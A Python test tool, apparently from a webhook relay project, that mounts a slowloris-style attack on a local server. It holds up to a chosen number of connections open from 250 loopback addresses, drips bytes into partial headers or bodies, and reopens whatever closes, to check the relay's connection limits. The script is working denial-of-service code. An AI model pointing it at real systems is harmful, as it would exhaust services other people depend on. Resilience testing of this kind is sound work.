"""An attacker who holds connections open, from 250 addresses of this machine, and opens again what is closed.

Without the opening again a trial proves nothing: the relay's own limits would free it for good.
Run as a program: PORT KIND COUNT. It says "holding" once it has tried each connection, and goes on until killed.
"""

from __future__ import annotations

import itertools
import os
import resource
import select
import socket
import sys
import time
from collections.abc import Iterator

HEAD = b"POST /webhooks/gallabox HTTP/1.1\r\nhost: relay.example\r\ncontent-type: application/json\r\n"
OPENINGS = {"idle": b"", "head": HEAD + b"x-slow: ", "body": HEAD + b"content-length: 60000\r\n\r\n{"}
AT_ONCE = 200  # connections that are being opened between two looks at those that are open


class Attacker:
    """Holds `count` connections of one kind open."""

    def __init__(self, port: int, kind: str, count: int) -> None:
        self._port = port
        self._opening = OPENINGS[kind]
        self._count = count
        self._held: dict[int, socket.socket] = {}
        self._poll = select.epoll()
        self._addresses: Iterator[str] = itertools.cycle(f"127.0.1.{n}" for n in range(1, 251))
        self.opened = 0

    def run(self) -> None:
        """Attack until killed."""
        drip_at = time.monotonic() + 1
        while True:
            for _ in range(min(self._count - len(self._held), AT_ONCE)):
                self._open()
            for number, events in self._poll.poll(0.01, 1024):
                self._look(number, events)
            if time.monotonic() > drip_at:
                drip_at += 1
                self._drip()
            if self.opened >= self._count:
                os.write(1, b"holding\n")
                self.opened = -(10**12)

    def _open(self) -> None:
        self.opened += 1
        one = socket.socket()
        one.setblocking(False)
        one.bind((next(self._addresses), 0))
        one.connect_ex(("127.0.0.1", self._port))
        self._held[one.fileno()] = one
        self._poll.register(one, select.EPOLLOUT)

    def _look(self, number: int, events: int) -> None:
        one = self._held[number]
        try:
            if events & select.EPOLLOUT:
                one.send(self._opening)
                self._poll.modify(one, select.EPOLLIN)
                return
            if one.recv(4096):
                return
        except OSError:
            pass
        del self._held[number]
        one.close()

    def _drip(self) -> None:
        for one in self._held.values() if self._opening else ():
            try:
                one.send(b"x")
            except OSError:  # it is closed at the next look
                continue


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    Attacker(int(sys.argv[1]), sys.argv[2], int(sys.argv[3])).run()
